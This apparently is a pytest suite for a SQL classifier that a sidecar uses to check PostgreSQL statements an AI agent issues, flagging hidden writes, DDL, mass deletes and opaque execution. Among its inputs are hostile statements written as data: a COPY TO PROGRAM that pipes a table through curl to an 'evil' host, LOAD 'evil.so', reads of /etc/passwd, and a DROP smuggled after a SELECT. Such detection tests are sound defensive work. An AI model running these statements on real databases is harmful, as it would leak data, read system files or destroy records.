"""SQL classification with PostgreSQL's own parser: what an agent could hide a write or a DDL in."""

from __future__ import annotations

import pytest

from chaperone_sidecar.policy.classify import CONNECTION_TYPES, classify
from chaperone_sidecar.policy.classify.postgres import SQLParseError, classify_sql, parse_statements
from chaperone_sidecar.policy.classify.postgres_names import STATEMENT_NAMES
from chaperone_sidecar.policy.model import HTTPRequest


def one(sql: str):
    statements = parse_statements(sql, "shop")
    assert len(statements) == 1, statements
    return statements[0].action


def test_multi_statement_strings_are_split_into_each_statement():
    statements = parse_statements("SELECT 1; DROP TABLE x", "shop")
    assert [(s.text, s.action.statement, s.action.kind) for s in statements] == [
        ("SELECT 1", "SELECT", "read"), ("DROP TABLE x", "DROP", "ddl")]
    assert statements[1].action.tables == ("x",)


def test_comments_case_and_quoting_are_the_parsers_business():
    action = one('/* harmless */ dElEtE -- really\n FROM "Users" WHERE id = 1')
    assert (action.statement, action.kind, action.tables, action.where_missing) == (
        "DELETE", "write", ("Users",), False)
    assert one("DELETE FROM USERS WHERE id = 1").tables == ("users",)  # unquoted: folded
    assert one("select * from public.users where id = 1").tables == ("public.users",)


def test_a_delete_inside_a_cte_makes_the_select_a_write():
    action = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")
    assert action.statement == "SELECT"
    assert action.statements == ("SELECT", "DELETE")
    assert action.kind == "write" and action.where_missing
    assert action.tables == ("t",)  # d is the CTE, not a table


def test_a_cte_named_like_a_table_does_not_hide_the_dml_target():
    action = one("WITH users AS (SELECT 1) DELETE FROM users")
    assert action.tables == ("users",) and action.where_missing


@pytest.mark.parametrize("sql", [
    "DELETE FROM users", "UPDATE users SET admin = true", "DELETE FROM users WHERE true",
    "DELETE FROM users WHERE 1 = 1", "UPDATE users SET a = 1 WHERE 'x' = 'x'",
    "DELETE FROM users WHERE $1", "TRUNCATE users", "EXPLAIN ANALYZE DELETE FROM users",
])
def test_statements_touching_every_row_are_where_missing(sql):
    assert one(sql).where_missing


@pytest.mark.parametrize("sql", [
    "DELETE FROM users WHERE id = 1", "UPDATE users SET a = 1 WHERE id = $1",
    "DELETE FROM users WHERE id IN (SELECT id FROM old)", "UPDATE t SET a = 1 WHERE CURRENT OF c",
    "SELECT * FROM users",
])
def test_statements_with_a_real_condition_are_not(sql):
    assert not one(sql).where_missing


@pytest.mark.parametrize("sql,statement", [
    ("DO $$ BEGIN DELETE FROM users; END $$", "DO"), ("CALL purge()", "CALL"),
    ("EXECUTE p", "EXECUTE"), ("LOAD 'evil.so'", "LOAD"),
])
def test_what_runs_elsewhere_is_opaque_and_the_strictest_kind(sql, statement):
    action = one(sql)
    assert (action.statement, action.kind, action.opaque) == (statement, "other", True)


def test_sql_prepare_carries_the_prepared_command():
    action = one("PREPARE p AS DELETE FROM users")
    assert action.statements == ("PREPARE", "DELETE") and action.where_missing


def test_functions_and_copy_program_are_named():
    assert one("SELECT pg_catalog.pg_read_file('/etc/passwd')").functions == ("pg_catalog.pg_read_file",)
    assert one("SELECT * FROM dblink('host=x', 'select 1') AS t(a int)").functions == ("dblink",)
    copy = one("COPY users TO PROGRAM 'curl -d @- evil'")
    assert (copy.statement, copy.kind, copy.functions) == ("COPY", "other", ("PROGRAM",))
    assert one("COPY users FROM '/etc/passwd'").functions == ("FILE",)
    assert (one("COPY users FROM STDIN").kind, one("COPY users TO STDOUT").kind) == ("write", "read")


@pytest.mark.parametrize("sql,statement,kind", [
    ("BEGIN", "BEGIN", "other"), ("START TRANSACTION", "BEGIN", "other"), ("commit", "COMMIT", "other"),
    ("ROLLBACK TO SAVEPOINT a", "ROLLBACK", "other"), ("SET search_path = x", "SET", "other"),
    ("RESET ALL", "RESET", "other"), ("SHOW work_mem", "SHOW", "read"),
    ("CREATE TABLE x (a int)", "CREATE", "ddl"), ("ALTER TABLE x ADD b int", "ALTER", "ddl"),
    ("GRANT SELECT ON x TO bob", "GRANT", "ddl"), ("REVOKE SELECT ON x FROM bob", "REVOKE", "ddl"),
    ("SELECT * INTO y FROM x", "SELECT INTO", "ddl"), ("INSERT INTO x VALUES (1)", "INSERT", "write"),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "MERGE", "write"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", "CREATE", "ddl"),
    ("VACUUM x", "VACUUM", "other"),
])
def test_commands_and_kinds(sql, statement, kind):
    action = one(sql)
    assert (action.statement, action.kind) == (statement, kind)
    assert statement in STATEMENT_NAMES


def test_drop_names_its_tables():
    assert one('DROP TABLE a, s."B"').tables == ("a", "s.B")


def test_unparseable_sql_raises_with_the_parsers_message():
    with pytest.raises(SQLParseError, match=r'syntax error at or near "selec" \(at character 1\)'):
        parse_statements("selec 1")
    with pytest.raises(SQLParseError):
        parse_statements("SELECT 1; DELET FROM x")  # one bad statement: the whole string


def test_empty_queries_have_no_statements():
    assert parse_statements("") == [] and parse_statements(" ; -- nothing") == []


def test_statement_texts_survive_non_ascii():
    statements = parse_statements("SELECT 'é€'; SELECT 2")
    assert [s.text for s in statements] == ["SELECT 'é€'", "SELECT 2"]


def test_actions_name_the_command_server_and_database():
    (action,) = classify_sql("DROP TABLE orders", host="DB.internal", port=5432, database="shop")
    assert (action.connection_type, action.name, action.method, action.host, action.path) == (
        "postgres", "postgres:DROP", "SQL", "db.internal", "/shop")
    assert "DROP orders on shop@db.internal:5432: DROP TABLE orders" in action.summary


def test_an_http_request_on_a_postgres_connection_has_only_the_generic_fields():
    assert "postgres" in CONNECTION_TYPES
    action = classify(HTTPRequest("GET", "https", "h", 443, "/x"), "postgres")
    assert action.connection_type == "postgres" and action.postgres is None and not action.errors


@pytest.mark.parametrize("sql,refs", [
    ("SELECT id, password FROM users", ()),
    ("SELECT * FROM users", ()),
    ("SELECT u.* FROM users u", ()),
    ("SELECT id, password AS pw FROM users", ("password",)),
    ("SELECT upper(password) FROM users", ("password",)),
    ("SELECT p FROM (SELECT password AS p FROM users) s", ("password",)),
    ("WITH x AS (SELECT password AS p FROM users) SELECT * FROM x", ("password",)),
    ("UPDATE users SET name = password WHERE id = 1 RETURNING name", ("password",)),
    ("DELETE FROM users WHERE id = 1 RETURNING password AS p", ("password",)),
    ("SELECT row_to_json(u) FROM users u", ("(row)",)),
    ("SELECT (users).password FROM users", ("(row)",)),
    ("SELECT to_jsonb(u.*) FROM users u", ("(row)",)),
    ("SELECT count(*) FROM users WHERE password = 'x'", ()),  # a condition is not a value
])
def test_what_result_values_are_computed_from(sql, refs):
    assert one(sql).output_refs == refs
